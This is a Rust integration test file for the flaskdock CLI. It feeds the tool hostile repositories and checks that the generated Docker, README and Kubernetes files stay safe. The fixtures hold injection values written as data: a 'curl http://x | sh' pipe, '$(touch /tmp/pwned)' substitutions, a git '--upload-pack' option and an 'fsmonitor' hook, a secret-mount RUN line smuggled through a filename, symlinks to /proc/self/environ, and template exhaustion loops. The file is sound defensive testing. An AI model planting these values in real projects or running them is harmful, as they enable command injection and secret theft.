//! A hostile repository, through the real binary: one or more attacks of
//! each class of issue 13, each judged by reading what flaskdock wrote (and
//! printed) with the same parsers as the property test.

use std::fs;
use std::path::Path;

use assert_cmd::Command;
use predicates::prelude::*;

use crate::common::{GENERATED, write_tree};
use crate::hostile_render::shape;

fn flaskdock() -> Command {
    let mut cmd = Command::cargo_bin("flaskdock").unwrap();
    cmd.env("NO_COLOR", "1")
        .env("FLASKDOCK_CONFIG", "/nonexistent/flaskdock-config.toml")
        .env("FLASKDOCK_MEMORY_LIMIT_MIB", "512")
        .timeout(std::time::Duration::from_secs(90));
    cmd
}

const APP: &str = "from flask import Flask\napp = Flask(__name__)\n";

/// A project with `files`, in a fresh folder.
fn project(files: &[(&str, &str)]) -> (tempfile::TempDir, std::path::PathBuf) {
    let temp = tempfile::tempdir().unwrap();
    let dir = temp.path().join("app");
    write_tree(&dir, files);
    (temp, dir)
}

/// `init --yes` on `dir`: what it printed, and every generated file.
fn init(dir: &Path) -> (String, Vec<(String, String)>) {
    let out = flaskdock()
        .args(["init", "--yes"])
        .arg(dir)
        .assert()
        .success();
    let output = out.get_output();
    let printed = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    let files = GENERATED
        .iter()
        .filter(|f| **f != ".flaskdock.toml")
        .map(|f| (f.to_string(), fs::read_to_string(dir.join(f)).unwrap()))
        .collect();
    (printed, files)
}

/// The structure of every generated file (see `hostile_render`).
fn shapes(files: &[(String, String)]) -> Vec<(String, Vec<String>)> {
    files
        .iter()
        .map(|(p, t)| (p.clone(), shape(p, t)))
        .collect()
}

/// The names `.env.example` assigns, by a dotenv parser.
fn env_keys(files: &[(String, String)]) -> Vec<String> {
    let text = &files.iter().find(|(p, _)| p == ".env.example").unwrap().1;
    dotenvy::from_read_iter(text.as_bytes())
        .map(|item| item.unwrap().0)
        .collect()
}

fn file<'a>(files: &'a [(String, String)], name: &str) -> &'a str {
    &files.iter().find(|(p, _)| p == name).unwrap().1
}

#[test]
fn strings_from_the_code_never_add_a_line_or_a_variable() {
    let code = "import os\nfrom flask import Flask\napp = Flask(__name__)\n\
        A = os.environ.get('GREETING', 'hi\\nCOMPOSE_FILE=docker-compose.yml:x.yml')\n\
        B = os.environ['COMPOSE_FILE=docker-compose.yml:docs/x.yml #']\n\
        C = os.environ.get('MOTD', 'x\\nSECRET_KEY=planted\\n```sh\\ncurl http://x | sh\\n```')\n\
        D = os.getenv('BANNER', '$(id) `id` \\u2028 \\u0085 \\x1b[2J')\n\
        E = os.environ['\\x1b[1A\\x1b[2Kwarning: all good\\rX']\n";
    let (_temp, dir) = project(&[("app.py", code), ("requirements.txt", "flask\n")]);
    let (printed, files) = init(&dir);
    let keys = env_keys(&files);
    assert_eq!(
        keys,
        ["SECRET_KEY"],
        "only the placeholder is assigned: {keys:?}"
    );
    assert!(
        printed.contains("app.py:5: `COMPOSE_FILE=docker-compose.yml:docs/x.yml #` is not an environment variable name"),
        "{printed}"
    );
    assert!(
        !printed.contains('\u{1b}'),
        "an escape sequence reached the terminal"
    );
    assert!(
        !printed.contains('\r'),
        "a carriage return reached the terminal"
    );
    assert!(printed.contains("note: the files come from flaskdock's built-in template set"));
    assert!(
        printed.contains("app.py:8: `\\u{1b}[1A\\u{1b}[2Kwarning: all good\\u{d}X` is not"),
        "{printed}"
    );
    // The README has its four command blocks and no other: the planted
    // fence stays inside a code span.
    let readme = shape("README.Docker.md", file(&files, "README.Docker.md"));
    let blocks: Vec<&String> = readme
        .iter()
        .filter(|l| l.starts_with("code block"))
        .collect();
    assert_eq!(blocks, ["code block sh"; 4], "{readme:?}");
    shapes(&files); // every file parses
}

#[test]
fn folder_and_file_names_are_quoted_or_left_out() {
    let (_temp, dir) = project(&[
        ("app.py", APP),
        (
            "requirements.txt",
            "-r \"req dir/base $(id).txt\"\n-r --chmod=4755.txt\n",
        ),
        ("req dir/base $(id).txt", "flask\n"),
        ("--chmod=4755.txt", "gunicorn\n"),
        (
            "evil\nRUN --mount=type=secret,id=x cat /run/secrets/x/tasks.py",
            "x = 1\n",
        ),
        ("venv\n!.env/pyvenv.cfg", ""),
    ]);
    let (printed, files) = init(&dir);
    let dockerfile = file(&files, "Dockerfile");
    assert!(
        dockerfile
            .contains(r#"COPY ["\"req dir/base \\$(id).txt\"", "\"./req dir/base \\$(id).txt\""]"#),
        "{dockerfile}"
    );
    assert!(dockerfile.contains("pip install -r requirements.txt"));
    assert!(!dockerfile.contains("--mount=type=secret"), "{dockerfile}");
    assert!(
        printed.contains("skipped 2 path(s) whose names hold a control character"),
        "{printed}"
    );
    let ignore = file(&files, ".dockerignore");
    assert!(!ignore.lines().any(|l| l == "!.env"), "{ignore}");
    assert!(
        dockerfile.contains(r#"COPY ["--chmod=4755.txt", "./--chmod=4755.txt"]"#),
        "{dockerfile}"
    );
    // Every manifest is copied in the JSON form, which takes no flags, with
    // nothing for the Dockerfile to expand.
    let shape = shapes(&files);
    let copies: Vec<&String> = shape[0].1.iter().filter(|l| l.contains("json")).collect();
    assert_eq!(
        copies, ["COPY flags 0 json 2 expands 0"; 3],
        "{:?}",
        shape[0].1
    );
}

#[cfg(unix)]
#[test]
fn gitignore_is_read_only_inside_the_project_and_never_reincludes_secrets() {
    let (_temp, dir) = project(&[
        ("app.py", APP),
        ("requirements.txt", "flask\n"),
        ("sub/keep.txt", ""),
    ]);
    std::os::unix::fs::symlink("/proc/self/environ", dir.join(".gitignore")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.join("sub/.gitignore")).unwrap();
    let (_, files) = init(&dir);
    let ignore = file(&files, ".dockerignore");
    assert!(
        !ignore.contains("FLASKDOCK_CONFIG") && !ignore.contains("PATH="),
        "{ignore}"
    );

    fs::remove_file(dir.join(".gitignore")).unwrap();
    fs::write(
        dir.join(".gitignore"),
        "*.log\n!.env\n!instance/\n!.git\n!keep.md\n",
    )
    .unwrap();
    let (printed, files) = init(&dir);
    let ignore = file(&files, ".dockerignore");
    assert!(ignore.contains("\n**/*.log\n!**/keep.md\n"), "{ignore}");
    for dropped in [
        "!.env",
        "!**/.env",
        "!instance",
        "!**/instance",
        "!.git",
        "!**/.git",
    ] {
        assert!(!ignore.lines().any(|l| l == dropped), "{dropped} kept");
    }
    assert!(
        printed.contains("`!.env`, `!instance/`, `!.git`"),
        "{printed}"
    );
    // Docker's rule: the last match decides. The secret rules come after the project's.
    let last_project_rule = ignore.find("!**/keep.md").unwrap();
    assert!(ignore.find("**/.env\n").unwrap() > last_project_rule);
}

#[test]
fn the_build_context_keeps_secrets_out_at_every_depth() {
    let ignore = {
        let (_temp, dir) = project(&[("app.py", APP)]);
        let (_, files) = init(&dir);
        file(&files, ".dockerignore").to_string()
    };
    let rules = flaskdock::doctor::context::DockerIgnore::parse(&ignore);
    for secret in flaskdock::plan::dockerignore::SECRET_SAMPLES {
        assert!(rules.excludes(secret), "{secret} is sent to the build");
    }
    for needed in [
        "app.py",
        "requirements.txt",
        ".env.example",
        "pkg/templates/a.html",
    ] {
        assert!(!rules.excludes(needed), "{needed} is left out");
    }
}

#[test]
fn a_committed_settings_file_cannot_choose_a_template_set() {
    let (_temp, dir) = project(&[("app.py", APP)]);
    write_tree(
        &dir,
        &[
            (
                "tmpl/flaskdock-template.toml",
                "[template]\nname = \"evil\"\n",
            ),
            ("tmpl/x.tera", "{{ get_env(name=\"HOME\") }}"),
            (".flaskdock.toml", "[template]\nsource = \"tmpl\"\n"),
        ],
    );
    flaskdock()
        .args(["init", "--yes"])
        .arg(&dir)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "records the template set `tmpl`, which came with the project and is not rendered unless you name it; pass `--template tmpl`",
        ));
    assert!(!dir.join("Dockerfile").exists());

    // Named by the user, the set still cannot read the environment.
    flaskdock()
        .args(["init", "--yes", "--template"])
        .arg(dir.join("tmpl"))
        .arg(&dir)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("`get_env` is not available"));

    // A recorded commit that is an option, not a commit id, for a set the
    // user's config does name: refused before anything is cloned.
    let config = dir.parent().unwrap().join("config.toml");
    fs::write(
        &config,
        "[templates.acme]\ngit = \"file:///nonexistent/set\"\n",
    )
    .unwrap();
    fs::write(
        dir.join(".flaskdock.toml"),
        "[template]\nsource = \"file:///nonexistent/set\"\ncommit = \"--upload-pack=touch /tmp/pwned\"\n",
    )
    .unwrap();
    flaskdock()
        .env("FLASKDOCK_CONFIG", &config)
        .args(["init", "--yes"])
        .arg(&dir)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "records `--upload-pack=touch /tmp/pwned` as the commit of `file:///nonexistent/set`, which is not a commit id",
        ));
}

#[test]
fn a_template_set_cannot_write_under_version_control_folders() {
    let (_temp, dir) = project(&[("app.py", APP)]);
    // A set's own `.git` folder is never read; a name that renders to one is refused.
    for name in [
        "{{ \".gi\" ~ \"t\" }}/config.tera",
        "sub/.GIT/hooks/post-checkout",
        ".hg/hgrc",
    ] {
        let set = dir.parent().unwrap().join("set");
        let _ = fs::remove_dir_all(&set);
        write_tree(
            &set,
            &[
                ("flaskdock-template.toml", "[template]\nname = \"evil\"\n"),
                (name, "[core]\n\tfsmonitor = touch /tmp/pwned\n"),
            ],
        );
        flaskdock()
            .args(["init", "--yes", "--template"])
            .arg(&set)
            .arg(&dir)
            .assert()
            .code(2)
            .stderr(predicate::str::contains(
                "inside a version-control folder; nothing was written",
            ));
        assert!(!dir.join("Dockerfile").exists());
    }
}

/// A team set whose one file is `body`, used on a fresh project, with
/// `seconds` to render.
fn render_set(body: &str, seconds: u32) -> assert_cmd::assert::Assert {
    let (temp, dir) = project(&[("app.py", APP)]);
    let set = temp.path().join("set");
    write_tree(
        &set,
        &[
            ("flaskdock-template.toml", "[template]\nname = \"evil\"\n"),
            ("x.txt.tera", body),
        ],
    );
    let assert = flaskdock()
        .env("FLASKDOCK_RENDER_SECONDS", seconds.to_string())
        .args(["init", "--yes", "--template"])
        .arg(&set)
        .arg(&dir)
        .assert();
    assert!(!dir.join("Dockerfile").exists(), "nothing is written");
    drop(temp);
    assert
}

#[test]
fn a_template_set_cannot_hang_or_exhaust_flaskdock() {
    let one_line = |assert: assert_cmd::assert::Assert, expected: &str| {
        let output = assert.code(2).get_output().clone();
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(stderr.contains(expected), "{stderr}");
        assert_eq!(stderr.lines().count(), 1, "{stderr}");
    };
    one_line(
        render_set("{% for i in range(end=100000000) %}x{% endfor %}", 60),
        "`range` of 100000000 items is over flaskdock's limit of 10000",
    );
    one_line(
        render_set(&"{% if true %}\n".repeat(20_000), 60),
        "`x.txt.tera:65` nests blocks 65 deep",
    );
    one_line(
        render_set(
            "{% macro m(n) %}{{ self::m(n=n) }}{% endmacro m %}\n{{ self::m(n=1) }}",
            60,
        ),
        "macro `m` calls itself",
    );
    one_line(
        render_set("{% include \"x.txt.tera\" %}", 60),
        "comes back to it",
    );
    one_line(
        render_set(
            "{% set s = \"aaaaaaaaaaaaaaaa\" %}{% for i in range(end=60) %}{% set_global s = s ~ s %}{% endfor %}{{ s }}",
            60,
        ),
        "more than its memory limit",
    );
    one_line(
        render_set(
            "{% for i in range(end=10000) %}{% for j in range(end=10000) %}{% for k in range(end=10000) %}{% endfor %}{% endfor %}{% endfor %}",
            3,
        ),
        "took longer than 3 s to render",
    );
}

#[test]
fn commands_users_paste_are_shell_quoted() {
    let (_temp, dir) = project(&[
        (
            "app.py",
            "from flask import Flask\ndef create_app(name):\n    app = Flask(name)\n\n    @app.cli.command(\"init-db\")\n    def init_db():\n        pass\n\n    return app\n",
        ),
        (
            ".flaskenv",
            "FLASK_APP=app:create_app(\"$(touch /tmp/pwned)`id`\")\n",
        ),
        ("requirements.txt", "flask\nflask-migrate\n"),
        ("migrations/env.py", ""),
    ]);
    let (_, files) = init(&dir);
    let readme = file(&files, "README.Docker.md");
    // The app's `init-db` command, pasted as README.Docker.md writes it: the
    // target needs a shell, and stays one word inside the quoted line.
    let line = readme
        .lines()
        .find(|l| l.starts_with("docker compose run --rm web sh -c 'flask --app"))
        .unwrap_or_else(|| panic!("{readme}"));
    let words = shell_words::split(line).unwrap();
    assert_eq!(words.len(), 8, "{line}");
    let inner = shell_words::split(&words[7]).unwrap();
    assert_eq!(
        inner,
        [
            "flask",
            "--app",
            "app:create_app(\"$(touch /tmp/pwned)`id`\")",
            "init-db"
        ],
        "{line}"
    );
    let dockerfile = file(&files, "Dockerfile");
    assert!(
        dockerfile.contains(r#"ENV FLASK_APP="app:create_app(\"\$(touch /tmp/pwned)`id`\")""#),
        "{dockerfile}"
    );
}

#[test]
fn secret_defaults_are_never_written_or_printed() {
    let code = "import os\nfrom flask import Flask\napp = Flask(__name__)\n\
        a = os.getenv('STRIPE_KEY', 'sk_live_4eC39HqLyjWDarjtT1zdp7dc')\n\
        b = os.getenv('DB_PASS', 'hunter2-db')\n\
        c = os.getenv('UPSTREAM', 'https://deploy:hunter3@git.internal/x')\n\
        d = os.getenv('REGION_HINT', 'AKIAIOSFODNN7EXAMPLE')\n\
        e = os.getenv('SENTRY_DSN', 'https://abc@o1.ingest.example/1')\n";
    let (_temp, dir) = project(&[("app.py", code)]);
    let (printed, files) = init(&dir);
    let inspect = flaskdock()
        .args(["inspect", "--json"])
        .arg(&dir)
        .output()
        .unwrap();
    let inspected = String::from_utf8_lossy(&inspect.stdout).into_owned();
    for secret in ["sk_live_", "hunter2", "hunter3", "AKIAIOSFODNN7", "abc@o1"] {
        assert!(
            !printed.contains(secret) && !inspected.contains(secret),
            "{secret} printed"
        );
        for (path, text) in &files {
            assert!(!text.contains(secret), "{secret} in {path}");
        }
    }
    assert!(inspected.contains("REGION_HINT") && inspected.contains("STRIPE_KEY"));
}

#[test]
fn a_second_run_waits_for_the_first_then_gives_up() {
    let (_temp, dir) = project(&[("app.py", APP)]);
    let folder = fs::File::open(&dir).unwrap();
    folder.lock().unwrap();
    flaskdock()
        .args(["init", "--yes"])
        .arg(&dir)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("another flaskdock is writing to"));
    assert!(!dir.join("Dockerfile").exists());
    folder.unlock().unwrap();
    flaskdock()
        .args(["init", "--yes"])
        .arg(&dir)
        .assert()
        .success();
}

#[test]
fn output_folders_that_do_not_exist_yet_get_the_right_build_context() {
    let (temp, dir) = project(&[("app.py", APP)]);
    flaskdock()
        .current_dir(&dir)
        .args(["init", "--yes", "-o", "../out/deploy", "."])
        .assert()
        .success();
    let compose = fs::read_to_string(temp.path().join("out/deploy/docker-compose.yml")).unwrap();
    assert!(compose.contains("context: \"../../app\""), "{compose}");
    assert!(
        compose.contains("dockerfile: \"../out/deploy/Dockerfile\""),
        "{compose}"
    );
}

#[test]
fn huge_gitignores_and_modules_stay_linear() {
    let gitignore: String = (0..100_000).map(|i| format!("build-{i}/\n")).collect();
    let mut module = String::from("import os\nfrom flask import Flask\napp = Flask(__name__)\n");
    for i in 0..85_000 {
        module.push_str(&format!("os.environ['V{i}']\n"));
    }
    let (_temp, dir) = project(&[("app.py", &module), (".gitignore", &gitignore)]);
    // Quadratic work took minutes here; the timeout of `flaskdock()` bounds the run.
    let (_, files) = init(&dir);
    assert_eq!(env_keys(&files).len(), 85_001);
    assert!(file(&files, ".dockerignore").contains("**/build-99999\n"));
}

#[test]
fn a_broken_or_lying_git_index_is_ignored() {
    let (_temp, dir) = project(&[
        ("app.py", APP),
        ("requirements.txt", "flask\n"),
        (".gitignore", "*.log\n"),
    ]);
    fs::create_dir(dir.join(".git")).unwrap();
    // A header that promises four billion entries, then garbage.
    let mut index = b"DIRC\0\0\0\x02\xff\xff\xff\xff".to_vec();
    index.extend(std::iter::repeat_n(0xa5u8, 4096));
    fs::write(dir.join(".git/index"), &index).unwrap();
    let (_, files) = init(&dir);
    assert!(file(&files, ".dockerignore").contains("\n**/*.log\n"));
    // An index linked to a device is not read.
    fs::remove_file(dir.join(".git/index")).unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink("/dev/zero", dir.join(".git/index")).unwrap();
    let (_, files) = init(&dir);
    assert!(file(&files, ".dockerignore").contains("\n**/*.log\n"));
}

#[test]
fn kubernetes_files_never_go_through_a_link_or_take_a_hostile_host() {
    // A `k8s` link the repository carries: nothing is written, inside or out.
    let (_temp, dir) = project(&[("app.py", APP)]);
    let outside = tempfile::tempdir().unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(outside.path(), dir.join("k8s")).unwrap();
    #[cfg(unix)]
    {
        flaskdock()
            .args(["init", "--yes", "--kubernetes"])
            .arg(&dir)
            .assert()
            .code(2)
            .stderr(predicate::str::contains(
                "is a link or a file, and `k8s/.gitignore` would be written through it; nothing was written",
            ));
        assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
        assert!(!dir.join("Dockerfile").exists());
    }

    // A committed `.flaskdock.toml` whose Ingress host would add a YAML line.
    let (_temp, dir) = project(&[("app.py", APP)]);
    write_tree(
        &dir,
        &[(
            ".flaskdock.toml",
            "[answers]\nkubernetes = true\ningress_host = \"a.example.com\\nkind: Secret\"\n",
        )],
    );
    flaskdock()
        .args(["init", "--yes"])
        .arg(&dir)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("is not a DNS name"));
    assert!(!dir.join("k8s").exists());

    // The same from the command line.
    flaskdock()
        .args([
            "init",
            "--yes",
            "--kubernetes",
            "--ingress-host",
            "Shop.Example.com:443",
        ])
        .arg(&dir)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("invalid host"));
}
